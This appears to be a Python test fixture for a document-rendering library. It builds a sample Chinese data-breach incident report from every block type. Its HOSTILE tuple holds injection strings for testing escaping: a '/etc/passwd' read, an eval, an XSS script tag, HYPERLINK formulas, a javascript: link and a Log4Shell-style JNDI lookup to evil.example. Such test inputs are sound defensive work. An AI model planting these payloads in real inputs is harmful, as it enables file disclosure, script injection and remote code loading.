"""A paper with everything in it, and texts that mean harm."""

from __future__ import annotations

from io import BytesIO

from PIL import Image

from shangdun.papers.blocks import (
    Bullets,
    Callout,
    Facts,
    Heading,
    Item,
    Layout,
    Literally,
    Numbered,
    PageBreak,
    Paper,
    Picture,
    Signature,
    Signatures,
    Span,
    Table,
    Text,
)

DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
HOSTILE = (
    '#panic("x") #read("/etc/passwd") $ x^2 $ *b* _i_ `c` @ref <label> \\ // /* ~ --- ... "q"',
    '#import "@preview/cetz:0.2.0"\n#eval("1+1") [#link("https://evil.example")]',
    "= heading\n- list\n+ enum\n/ term: x",
    "<w:t>x</w:t> & ]]> <!-- --> <script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","x") {{ HYPERLINK "http://evil.example" }}',
    "{{company}} {% include 'x' %} ${jndi:ldap://evil.example/a}",
)


def picture(side: int = 12) -> bytes:
    made = BytesIO()
    Image.new("RGB", (side, side), "#14406b").save(made, "PNG")
    return made.getvalue()


LAYOUT = Layout(company="示例电商有限公司", logo=picture(), footer="未经批准不得外传")
ENGLISH = Layout(company="Example Shop Ltd", logo=picture(), footer="Not to be passed on")


def everything(language="zh-hans", **more) -> Paper:
    return Paper(
        title="事件处置报告",
        subtitle="数据泄露",
        language=language,
        marking="内部",
        meta=(("编号", "SD-2026-001"), ("版本", "3")),
        version="第 3 版",
        date="2026-11-23",
        author="张三",
        contents=True,
        cover=True,
        blocks=(
            Heading("一、经过"),
            Text((Span("接到报告后"), Span("立即", strong=True))),
            Heading("(一)发现", 2),
            Bullets(("甲", Item("乙", (Numbered(("丙", "丁"), start=3),)))),
            Numbered(("第一步", "第二步")),
            Table(
                ("时间", "事件", "人数"),
                tuple((f"10:{i:02}", "登录异常", f"{i:,}") for i in range(60)),
                widths=(20, 60, 20),
                right=(2,),
                caption="时间线",
            ),
            Facts((("摘要", DIGEST), ("金额", "¥1,000.00"))),
            Callout("四小时内报告。", title="注意", tone="danger"),
            Literally("$ nft list\n  table inet"),
            Picture(picture(), caption="曲线", width=20),
            Text(
                (Span("官网", link="https://shop.example/a?b=c&d"), Span("坏", link="javascript:x"))
            ),
            PageBreak(),
            Signatures((Signature("组长", "李四", "2026-11-23", "同意"), Signature("副组长"))),
        ),
        **more,
    )
